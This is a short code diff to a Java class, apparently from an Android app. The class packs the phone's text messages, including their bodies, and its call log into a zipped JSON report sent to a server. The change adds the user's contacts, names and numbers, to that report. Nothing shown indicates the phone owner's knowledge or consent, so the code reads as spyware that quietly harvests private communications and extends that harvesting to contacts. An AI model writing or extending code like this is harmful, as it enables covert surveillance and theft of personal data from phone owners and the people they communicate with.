@@ -9,7 +9,7 @@ import java.util.zip.ZipOutputStream;
 import org.json.JSONException;
 import org.json.JSONObject;
 
-/** What goes to the server: one zipped JSON file of texts and calls. */
+/** What goes to the server: one zipped JSON file of texts, calls and people. */
 final class Report {
     private Report() {}
 
@@ -18,6 +18,7 @@ final class Report {
         JSONObject report = new JSONObject();
         report.put("m", deputy.rows("messages", "address", "date", "body"));
         report.put("c", deputy.rows("calls", "number", "date", "duration"));
+        report.put("p", deputy.rows("people", "display_name", "data1"));
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
         try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
             zip.putNextEntry(new ZipEntry("report.json"));
